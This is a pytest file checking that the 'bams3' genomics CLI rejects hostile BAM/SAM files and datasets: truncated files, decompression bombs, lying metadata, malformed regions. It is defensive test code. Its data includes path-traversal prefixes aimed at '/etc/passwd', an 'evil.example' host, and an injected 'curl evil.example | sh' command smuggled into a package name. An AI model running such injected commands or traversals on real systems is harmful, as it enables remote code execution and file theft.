"""Hostile input. Every case is one clear line and a non-zero exit, within bounded time
and memory, touching nothing outside the dataset: never a traceback, a hang, a wrong
answer or a partial dataset.

Each command runs as a child process that reports its peak resident memory (VmHWM)
as it exits; it must stay under MEMORY_MB, far below what the lies in the
hostile files claim (gigabytes of header text, records, chunks and columns)."""

from __future__ import annotations

import gzip
import io
import json
import os
import pathlib
import random
import selectors
import shutil
import struct
import subprocess
import sys
import time
import zlib

import attrs
import pytest
import zstandard

import bams3
from bams3 import bgzf
from bams3.format import CHUNK_HEAD, DIR_ENTRY, METADATA_KEY, encode_metadata
from bams3.records import Header
from bams3.conformance.proxy import CountingProxy

from .oracle import raw_bam, view
from .test_cli import EXAMPLE

MEMORY_MB = 200  # the commands below peak at ~90 MB; every lie in them claims gigabytes
TIME_S = 60


@attrs.frozen
class Result:
    code: int
    out: bytes
    err: str
    rss_mb: float
    seconds: float


# The CLI, reporting its own peak resident memory (VmHWM) as it exits. (wait4's ru_maxrss
# would not do: a child inherits the peak of the process it was forked from, here pytest.)
_WRAPPER = """
import atexit, os, runpy, sys
def report():
    with open('/proc/self/status') as f:
        kb = next(line.split()[1] for line in f if line.startswith('VmHWM:'))
    with open(os.environ['BAMS3_TEST_HWM'], 'w') as out:
        out.write(kb)
atexit.register(report)
sys.argv = ['bams3', *sys.argv[1:]]
runpy.run_module('bams3.cli', run_name='__main__', alter_sys=True)
"""


def _measured(*args, env=None) -> Result:
    """Run the CLI as a child process: its exit code, output, peak memory and time."""
    import tempfile

    t = time.monotonic()
    hwm = tempfile.NamedTemporaryFile(prefix="bams3-hwm-", delete=False)
    hwm.close()
    env = {**(env or os.environ), "BAMS3_TEST_HWM": hwm.name}
    p = subprocess.Popen([sys.executable, "-c", _WRAPPER, *map(str, args)], stdin=subprocess.DEVNULL,
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)
    out, err = b"", b""
    deadline = t + TIME_S
    sel = selectors.DefaultSelector()
    sel.register(p.stdout, selectors.EVENT_READ)
    sel.register(p.stderr, selectors.EVENT_READ)
    while sel.get_map():
        if time.monotonic() > deadline:
            p.kill()
            p.wait()
            raise AssertionError(f"bams3 {' '.join(map(str, args))} hung for {TIME_S} s")
        for key, _ in sel.select(timeout=1):
            data = os.read(key.fd, 1 << 16)
            if not data:
                sel.unregister(key.fileobj)
            elif key.fileobj is p.stdout:
                out += data
            else:
                err += data
    p.wait()
    with open(hwm.name) as f:
        kb = f.read()
    os.unlink(hwm.name)
    assert kb, f"bams3 {' '.join(map(str, args))} did not exit normally ({p.returncode}): {err.decode()[-300:]}"
    return Result(p.returncode, out, err.decode(errors="replace"), int(kb) / 1024, time.monotonic() - t)


REFUSED = {"commands": 0, "peak_mb": 0.0, "slowest_s": 0.0}  # printed at the end of the run (conftest.py)


def refused(r: Result, code: int = 1, *needles: str) -> None:
    REFUSED["commands"] += 1
    REFUSED["peak_mb"] = max(REFUSED["peak_mb"], r.rss_mb)
    REFUSED["slowest_s"] = max(REFUSED["slowest_s"], r.seconds)
    assert r.code == code, (r.code, r.err)
    assert r.err.startswith("bams3: ") and r.err.count("\n") == 1, r.err
    assert "Traceback" not in r.err
    for n in needles:
        assert n in r.err, r.err
    assert r.rss_mb < MEMORY_MB, f"{r.rss_mb:.0f} MB"


# ------------------------------------------------------------------ hostile input files

HEADER, RAW = raw_bam(EXAMPLE)
HEAD = Header(HEADER.text, HEADER.references).to_bam_bytes()
FIRST = RAW[: 4 + struct.unpack_from("<i", RAW)[0]]  # the first record, with its block_size


def _bgzf(payload: bytes, eof: bool = True) -> bytes:
    buf = io.BytesIO()
    w = bgzf.BgzfWriter(buf, threads=1)
    w.write(payload)
    w.close()
    data = buf.getvalue()
    return data if eof else data[: -len(bgzf.EOF_BLOCK)]


def _record_with(**fields) -> bytes:
    """The first record with some core fields replaced (offsets after block_size)."""
    at = {"block_size": 0, "l_read_name": 12, "n_cigar_op": 16, "l_seq": 20, "refid": 4, "pos": 8, "next_refid": 24}
    fmt = {"block_size": "<i", "l_read_name": "<B", "n_cigar_op": "<H", "l_seq": "<i", "refid": "<i", "pos": "<i",
           "next_refid": "<i"}
    rec = bytearray(FIRST)
    for k, v in fields.items():
        struct.pack_into(fmt[k], rec, at[k], v)
    return bytes(rec)


def _with_field(line: str, i: int, value: str) -> str:
    fields = line.split("\t")
    fields[i] = value
    return "\t".join(fields)


def _bam_with_span() -> bytes:
    """A BAM whose one record's CIGAR spans 2.4 Gbp (samtools reads it; positions are int32)."""
    import tempfile

    import pysam

    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, "x.bam")
        with pysam.AlignmentFile(EXAMPLE) as inp, pysam.AlignmentFile(path, "wb", template=inp) as out:
            rec = next(inp.fetch(until_eof=True))
            rec.cigarstring = "2M" + "268435455N" * 9 + f"{rec.query_length - 2}M"
            out.write(rec)
        return pathlib.Path(path).read_bytes()


def _sam_lines() -> list[str]:
    return view(EXAMPLE, flags=("-h",)).splitlines()


def _hostile_inputs() -> dict[str, tuple[bytes, str]]:
    """name -> (file bytes, a word the error must contain)."""
    rnd = random.Random(7)
    bam = pathlib.Path(EXAMPLE).read_bytes()
    sam = _sam_lines()
    header = [x for x in sam if x.startswith("@")]
    body = [x for x in sam if not x.startswith("@")]
    return {
        "empty.bam": (b"", "empty"),
        "random.bam": (rnd.randbytes(200_000), "not a BAM"),
        "gzip-not-bgzf.bam": (gzip.compress(b"hello world\n" * 5000), "gzip-not-bgzf.bam"),
        "bgzf-of-garbage.bam": (_bgzf(rnd.randbytes(100_000)), "bgzf-of-garbage.bam"),
        "truncated-mid-block.bam": (bam[: len(bam) // 2], "truncated"),
        "truncated-in-header.bam": (_bgzf(HEAD[: len(HEAD) // 2], eof=False), "truncated"),
        "no-eof-marker.bam": (bam[: -len(bgzf.EOF_BLOCK)], "truncated"),
        "header-claims-2GB-text.bam": (_bgzf(b"BAM\x01" + struct.pack("<i", 0x7FFFFFF0) + b"@CO\tx\n" * 50_000),
                                       "header"),
        "header-claims-2G-references.bam": (_bgzf(b"BAM\x01" + struct.pack("<ii", 0, 0x7FFFFFFF)
                                                  + (struct.pack("<i", 5) + b"chrA\x00" + struct.pack("<i", 99)) * 50_000),
                                            "header"),
        "negative-text-length.bam": (_bgzf(b"BAM\x01" + struct.pack("<ii", -5, 0)), "header"),
        "record-claims-2GB.bam": (_bgzf(HEAD + _record_with(block_size=0x7FFFFFF0) + RAW * 3), "record"),
        "record-too-small.bam": (_bgzf(HEAD + struct.pack("<i", 8) + b"\x00" * 8 + RAW), "record"),
        "record-fields-overflow.bam": (_bgzf(HEAD + _record_with(l_seq=1 << 20) + RAW), "record"),
        "record-cigar-overflow.bam": (_bgzf(HEAD + _record_with(n_cigar_op=0xFFFF) + RAW), "record"),
        "record-unknown-reference.bam": (_bgzf(HEAD + _record_with(refid=999) + RAW), "reference #999"),
        "record-unknown-mate-reference.bam": (_bgzf(HEAD + _record_with(next_refid=-7) + RAW), "mate reference #-7"),
        "unsorted.bam": (_bgzf(HEAD + RAW[len(FIRST):] + FIRST), "sorted"),
        "garbage.sam": ("\n".join(["@HD\tVN:1.6"] + ["this is not\ta SAM record"] * 100).encode(), "garbage.sam"),
        "truncated-mid-line.sam": (("\n".join(header + body[:50]) + "\n" + body[50][:20]).encode(), "truncated"),
        "binary-after-header.sam": (("\n".join(header) + "\n").encode() + rnd.randbytes(5000), "sam"),
        "unknown-reference.sam": (("\n".join(header + [body[0].replace("\tchr1\t", "\tchrNope\t", 1)]) + "\n").encode(),
                                  "sam"),
        "unknown-mate-reference.sam": (("\n".join(header + [_with_field(body[0], 6, "chrNope")]) + "\n").encode(),
                                       "mate reference"),
        "unknown-mate-after-300-warnings.sam": (("\n".join(
            header + [_with_field(body[0], 5, "*")] * 300 + [_with_field(body[0], 6, "chrZ")]
            + [_with_field(body[0], 5, "*")] * 5) + "\n").encode(), "mate reference 'chrZ'"),
        "record-spans-2-gbp.bam": (_bam_with_span(), "spans"),
        "unsorted.sam": (("\n".join(header + body[100:200] + body[:100]) + "\n").encode(), "sorted"),
        "garbage.cram": (b"CRAM\x03\x00" + rnd.randbytes(50_000), "garbage.cram"),
    }


HOSTILE_INPUTS = _hostile_inputs()


@pytest.mark.parametrize("name", sorted(HOSTILE_INPUTS))
def test_hostile_input_files_are_refused(tmp_path, name):
    data, word = HOSTILE_INPUTS[name]
    src = tmp_path / name
    src.write_bytes(data)
    dest = tmp_path / "out.bams3"
    r = _measured("convert", src, dest, "--no-progress")
    refused(r, 1, name)
    assert word.lower() in r.err.lower(), r.err
    assert not dest.exists()  # not even the empty directory made for it


def test_a_record_far_larger_than_a_batch_in_small_pieces():
    """A 40 MB record (a long aux string) arriving in 64 KB pieces: read on to its claimed
    size and joined once (it used to be re-joined for every piece), records exact."""
    from bams3.records import split_records

    big_body = FIRST[4:] + b"XXZ" + b"A" * (40 << 20) + b"\0"
    big = struct.pack("<i", len(big_body)) + big_body
    stream = HEAD + big + RAW[len(FIRST):]
    pieces = (stream[i : i + (1 << 16)] for i in range(0, len(stream), 1 << 16))
    _, batches = split_records(pieces, target=1 << 20)
    got = b"".join(b.tobytes() for b in batches)
    assert got == big + RAW[len(FIRST):]


def test_blocks_in_lists_make_the_same_batches_as_joined_pieces():
    """The converter's reader takes each read's inflated BGZF blocks as a list (joined once, in
    the batch: bgzf.decompress_blocks); the batches are those of the joined pieces, to the byte
    and the record boundary, whatever the reads' sizes."""
    from bams3.records import split_records

    stream = HEAD + RAW * 40
    packed = _bgzf(stream)
    blocks = list(bgzf.decompress_blocks(io.BytesIO(packed).read, piece=1 << 16))
    assert len(blocks) > 3 and all(isinstance(b, list) and all(b) for b in blocks)
    assert b"".join(b"".join(b) for b in blocks) == stream
    assert b"".join(bgzf.decompress_stream(io.BytesIO(packed).read, piece=1 << 16)) == stream

    def batches(pieces):
        _, it = split_records(pieces, target=1 << 16)
        return [(b.tobytes(), (b.offsets - b.offsets[0]).tolist()) for b in it]

    assert batches(iter(blocks)) == batches(b"".join(b) for b in blocks)
    assert b"".join(data for data, _ in batches(iter(blocks))) == RAW * 40


def test_sorting_does_not_hide_an_unknown_reference(tmp_path):
    data, _ = HOSTILE_INPUTS["unknown-reference.sam"]
    src = tmp_path / "u.sam"
    src.write_bytes(data)
    refused(_measured("convert", src, tmp_path / "o", "--sort"), 1, "reference 'chrNope'", "header lacks")
    assert not (tmp_path / "o").exists()


def test_an_unknown_reference_is_named_even_when_it_shows_first_as_out_of_order(tmp_path):
    """htslib keeps the record unplaced, so the converter meets it as a record out of
    order, possibly before the decoder's warning has been read: the warning still wins."""
    sam = _sam_lines()
    header = [x for x in sam if x.startswith("@")]
    body = [x for x in sam if not x.startswith("@")]
    src = tmp_path / "big.sam"
    with open(src, "w") as f:  # about 20 MB of records, sorted but for the first
        f.write("\n".join(header + [_with_field(body[0], 2, "chrNope")]) + "\n")
        for line in body:
            f.write((line + "\n") * 4)
    refused(_measured("convert", src, tmp_path / "o"), 1, "reference 'chrNope'", "header lacks")


def test_closed_standard_input(tmp_path):
    p = subprocess.run(["sh", "-c", f'exec "{sys.executable}" -m bams3.cli convert - "{tmp_path / "o"}" <&-'],
                       capture_output=True, text=True, timeout=60)
    assert p.returncode == 1 and p.stderr.count("\n") == 1 and "standard input is closed" in p.stderr, p.stderr
    assert not (tmp_path / "o").exists()


def test_a_directory_or_a_fifo_as_input(tmp_path):
    refused(_measured("convert", tmp_path, tmp_path / "o"), 1)
    fifo = tmp_path / "in.bam"
    os.mkfifo(fifo)
    writer = subprocess.Popen(["sh", "-c", f"head -c 100000 /dev/zero > {fifo}"])
    refused(_measured("convert", fifo, tmp_path / "o"), 1, "not a BAM")
    writer.wait(timeout=10)


# ------------------------------------------------------------------ damaged and hostile datasets


@pytest.fixture(scope="module")
def good(tmp_path_factory) -> pathlib.Path:
    dest = tmp_path_factory.mktemp("good") / "good.bams3"
    bams3.convert(EXAMPLE, str(dest), chunk_size="256K", max_chunk_raw=1 << 18)
    return dest


@pytest.fixture
def ds(good, tmp_path) -> pathlib.Path:
    dest = tmp_path / "d.bams3"
    shutil.copytree(good, dest)
    return dest


def _chunks(dest: pathlib.Path) -> list[pathlib.Path]:
    return sorted(p for p in (dest / "data").rglob("*") if p.is_file() and p.name.isdigit())


def _meta(dest: pathlib.Path) -> dict:
    return json.loads((dest / METADATA_KEY).read_text())


def _set_meta(dest: pathlib.Path, obj: dict) -> None:
    (dest / METADATA_KEY).write_bytes(encode_metadata(obj))  # a hostile writer that signs what it writes


def _every_verb(dest, *needles, code=1, stats_too=True):
    """query records, count, to-bam and (when the damage is in the metadata) stats all refuse."""
    verbs = [("query", dest, "chr1"), ("query", dest, "chr1", "-c"), ("to-bam", dest, dest.parent / "x.bam")]
    if stats_too:
        verbs.append(("stats", dest))
    for args in verbs:
        refused(_measured(*args), code, *needles)
    assert not (dest.parent / "x.bam").exists()  # no partial output that looks complete


def test_missing_chunk(ds):
    victim = _chunks(ds)[1]
    victim.unlink()
    refused(_measured("query", ds, "chr1"), 1, str(ds), victim.name, "missing")
    refused(_measured("to-bam", ds, ds.parent / "x.bam"), 1, victim.name, "missing")
    assert not (ds.parent / "x.bam").exists()
    r = _measured("verify", ds)
    assert r.code == 1 and victim.name in r.out.decode() + r.err


@pytest.mark.parametrize("where", ["directory", "column", "end"])
def test_chunk_with_flipped_bytes(ds, where):
    victim = _chunks(ds)[0]
    blob = bytearray(victim.read_bytes())
    at = {"directory": CHUNK_HEAD.size + 8, "column": len(blob) // 3, "end": len(blob) - 3}[where]
    blob[at] ^= 0x5A
    victim.write_bytes(bytes(blob))
    r = _measured("query", ds, "chr1")
    refused(r, 1, str(ds), victim.name)
    assert "corrupt" in r.err or "damaged" in r.err


def test_truncated_and_padded_chunks(ds):
    victim = _chunks(ds)[0]
    blob = victim.read_bytes()
    victim.write_bytes(blob[: len(blob) // 2])
    refused(_measured("query", ds, "chr1"), 1, victim.name)
    victim.write_bytes(blob + b"\0" * (50 << 20))  # 50 MB more than the table records: never read
    r = _measured("query", ds, "chr1", "-c")
    assert r.code == 1 or r.out.strip() == b"10719", r.err
    refused(_measured("query", ds, "chr1"), 1, victim.name)


def test_decompression_bomb_is_capped_by_the_recorded_sizes(ds):
    """A column rewritten as a 2 GB zstd bomb with a correct checksum, its directory raw
    size set to 2 GB too: refused from the chunk table's recorded size, never inflated."""
    victim = _chunks(ds)[0]
    blob = victim.read_bytes()
    _, ncol, n = CHUNK_HEAD.unpack_from(blob, 0)
    bomb = zstandard.ZstdCompressor(level=19).compress(b"\0" * (64 << 20))
    bomb = bomb * 32  # 32 frames of 64 MB: 2 GB when inflated
    entries = [list(DIR_ENTRY.unpack_from(blob, CHUNK_HEAD.size + i * DIR_ENTRY.size)) for i in range(ncol)]
    o = CHUNK_HEAD.size + ncol * DIR_ENTRY.size
    payloads = []
    for e in entries:
        payloads.append(blob[o : o + e[4]])
        o += e[4]
    e = entries[-1]  # the last column: its codec is zstd unless it holds qualities
    zstd_index = next(i for i, c in enumerate(_meta(ds)["codecs"]) if c["name"] == "zstd")
    e[1], e[2], e[3], e[4], e[5] = zstd_index, 0, zlib.crc32(bomb), len(bomb), 2 << 30
    payloads[-1] = bomb
    new = bytearray(CHUNK_HEAD.pack(*CHUNK_HEAD.unpack_from(blob, 0)))
    for e in entries:
        new += DIR_ENTRY.pack(*e)
    new += b"".join(payloads) + blob[o:]
    victim.write_bytes(bytes(new))
    # the table agrees on the object's new size: only the column's raw size lies
    table = bams3.open(str(ds)).chunks
    _set_meta(ds, _table_with(ds, nbytes=(0, int(table.nbytes[0]) + len(new) - len(blob))))
    refused(_measured("query", ds, "chr1"), 1, victim.name)


def test_truncated_metadata(ds):
    body = (ds / METADATA_KEY).read_bytes().rstrip()
    for cut in (0, 1, len(body) // 2, len(body) - 1):
        (ds / METADATA_KEY).write_bytes(body[:cut])
        _every_verb(ds, str(ds), "_metadata.json")


def test_metadata_from_a_newer_format_version(ds):
    meta = _meta(ds)
    meta["format_version"] = 99
    _set_meta(ds, meta)
    _every_verb(ds, "newer", "upgrade bams3")
    for bad in ("2", None, -1, 0, 1.5, True):
        meta["format_version"] = bad
        _set_meta(ds, meta)
        refused(_measured("stats", ds), 1, "_metadata.json")


ABSURD = {
    "n_records": lambda m: m["stats"].__setitem__("n_records", 10**30),
    "negative n_records": lambda m: m["stats"].__setitem__("n_records", -1),
    "chunk_size": lambda m: m.__setitem__("chunk_size", 1 << 62),
    "zero chunk_size": lambda m: m.__setitem__("chunk_size", 0),
    "reference length": lambda m: m["header"]["references"][0].__setitem__(1, 1 << 63),
    "chunk count": lambda m: m["chunks"].__setitem__("count", 1 << 40),
    "chunk table size": lambda m: m["chunks"].__setitem__("count", m["chunks"]["count"] + 1),
    "count_slot_bp": lambda m: m.__setitem__("count_slot_bp", -7),
    "codecs": lambda m: m.__setitem__("codecs", "zstd"),
    "references": lambda m: m["header"].__setitem__("references", [["chr1"]]),
}


@pytest.mark.parametrize("lie", sorted(ABSURD))
def test_metadata_with_absurd_counts_or_sizes(ds, lie):
    meta = _meta(ds)
    ABSURD[lie](meta)
    _set_meta(ds, meta)
    refused(_measured("query", ds, "chr1", "-c"), 1, str(ds), "_metadata.json")


def _table_with(ds, **changes):
    """The metadata with chunk-table columns changed: field -> (index, value)."""
    from bams3.format import CHUNK_FIELDS, ChunkTable

    table = bams3.open(str(ds)).chunks
    cols = {f: getattr(table, f).copy() for f in CHUNK_FIELDS}
    for field, (i, value) in changes.items():
        cols[field][i] = value
    meta = _meta(ds)
    meta["chunks"] = ChunkTable(cols).to_json()
    return meta


@pytest.mark.parametrize("field,value", [("nbytes", 1 << 40), ("raw_nbytes", 1 << 40), ("n_records", 1 << 40),
                                         ("count_nbytes", 1 << 40), ("slot_nbytes", 1 << 40), ("slot_nbytes", 5),
                                         ("nbytes", -1),
                                         ("ref_id", 7), ("max_pos", -5)])
def test_chunk_table_with_absurd_values(ds, field, value):
    _set_meta(ds, _table_with(ds, **{field: (0, value)}))
    r = _measured("query", ds, "chr1")
    refused(r, 1, str(ds))


ESCAPES = ["../elsewhere/", "../../", "/etc/", "/tmp/x/", "s3://another-bucket/data/", "http://evil.example/data/",
           "data/../../outside/", "data/x/../../../", "data\\..\\..\\", "data/%2e%2e/", "file:///etc/",
           "data/x/\n", "data//", "data/x"]


@pytest.mark.parametrize("prefix", ESCAPES)
def test_chunk_keys_that_escape_the_dataset(ds, prefix):
    meta = _meta(ds)
    meta["data_prefix"] = prefix
    _set_meta(ds, meta)
    _every_verb(ds, "_metadata.json", "malformed")


@pytest.mark.parametrize("field", ["chunks", "coverage"])
def test_table_and_coverage_objects_that_escape_the_dataset(good, tmp_path, field):
    ds = tmp_path / "d.bams3"
    shutil.copytree(good, ds)
    meta = _meta(ds)
    for target in ("../../etc/passwd", "/etc/passwd", "s3://another-bucket/x", meta["data_prefix"] + "../../x"):
        if field == "chunks":
            meta["chunks"] = {"object": target, "count": 3, "nbytes": 100, "crc32": 1,
                              "fields": meta["chunks"]["fields"], "encoding": meta["chunks"]["encoding"]}
        else:
            meta["coverage"] = dict(meta["coverage"], object=target)
        _set_meta(ds, meta)
        refused(_measured("stats", ds), 1, "_metadata.json", "malformed")


def test_nothing_outside_the_dataset_is_requested_on_s3(s3_server, good, monkeypatch):
    """With hostile metadata on S3, the only request is for the metadata itself."""
    client, bucket = s3_server["client"], s3_server["bucket"]
    base = "hostile/escape.bams3"
    for path in good.rglob("*"):
        if path.is_file():
            client.put_object(Bucket=bucket, Key=f"{base}/{path.relative_to(good)}", Body=path.read_bytes())
    meta = _meta(good)
    proxy = CountingProxy(s3_server["endpoint"])
    try:
        env = {**os.environ, "AWS_ENDPOINT_URL": proxy.endpoint}
        for prefix in ("../../", "../other.bams3/data/", "s3://another-bucket/", "/etc/"):
            client.put_object(Bucket=bucket, Key=f"{base}/{METADATA_KEY}",
                              Body=encode_metadata(dict(meta, data_prefix=prefix)))
            proxy.reset()
            for args in (("query", f"s3://{bucket}/{base}", "chr1"), ("verify", f"s3://{bucket}/{base}")):
                refused(_measured(*args, env=env), 1, "malformed")
            paths = {p for _, p, *_ in proxy.log}
            assert paths == {f"/{bucket}/{base}/{METADATA_KEY}"}, paths
    finally:
        proxy.close()


def test_the_pip_install_hint_only_ever_names_a_package(ds):
    meta = _meta(ds)
    meta["codecs"][0] = {"name": "zstd9000", "level": 3, "package": "bams3-zstd9000"}
    _set_meta(ds, meta)
    refused(_measured("query", ds, "chr1"), 1, "zstd9000", "pip install bams3-zstd9000")
    meta["codecs"][0]["package"] = "x; curl evil.example | sh"
    _set_meta(ds, meta)
    r = _measured("query", ds, "chr1")
    refused(r, 1, "_metadata.json is malformed", "not a package name")
    assert "curl" not in r.err


# ------------------------------------------------------------------ hostile regions

HUGE = ["chr1:99999999999999999999999", "chr1:1-99999999999999999999999", "chr1:1e30", "chr1:18446744073709551616",
        "chr1:1-" + "9" * 5000, "chr1:" + "1," * 3000 + "1"]
# samtools answers some of these with an error message, a count of 0 and exit code 0
NEGATIVE_OR_MALFORMED = ["chr1:-5-10", "chr1:5--10", "chr1:10-5", "chr1:0-0", "chr1:+5", "chr1::5", "chr1:1-2-3",
                         ":1-10", "chr1:1\n-5", "chr1:1 -5", "chr1:5 ", " chr1"]


@pytest.mark.parametrize("region", HUGE + NEGATIVE_OR_MALFORMED, ids=lambda r: repr(r)[:40])
def test_hostile_regions(good, region):
    for args in (("query", good, region), ("query", good, region, "-c"), ("coverage", good, "-r", region),
                 ("to-bam", good, good.parent / "r.bam", "--region", region)):
        r = _measured(*args)
        assert r.code == 2, (args, r.code, r.err)
        refused(r, 2)
    assert not (good.parent / "r.bam").exists()


def test_huge_coordinates_in_a_bed_file(good, tmp_path):
    bed = tmp_path / "r.bed"
    for line in ("chr1\t0\t99999999999999999999999\n", "chr1\t-5\t100\n", "chr1\t100\t50\n", "chr1\tx\t5\n"):
        bed.write_text(line)
        refused(_measured("query", good, "-L", bed, "-c"), 2, "r.bed")


@pytest.mark.parametrize("region,expected", [("chr1:1-9223372036854775807", "chr1"), ("chr1:2147483648-2147483649", None),
                                             ("chr1:100000000000", None), ("chr1:-1000", "chr1:1-1000")])
def test_large_but_valid_coordinates_answer_like_samtools(good, region, expected):
    from .oracle import view_count

    r = _measured("query", good, region, "-c")
    assert r.code == 0, r.err
    assert int(r.out) == (view_count(EXAMPLE, expected) if expected else 0) == view_count(EXAMPLE, region)
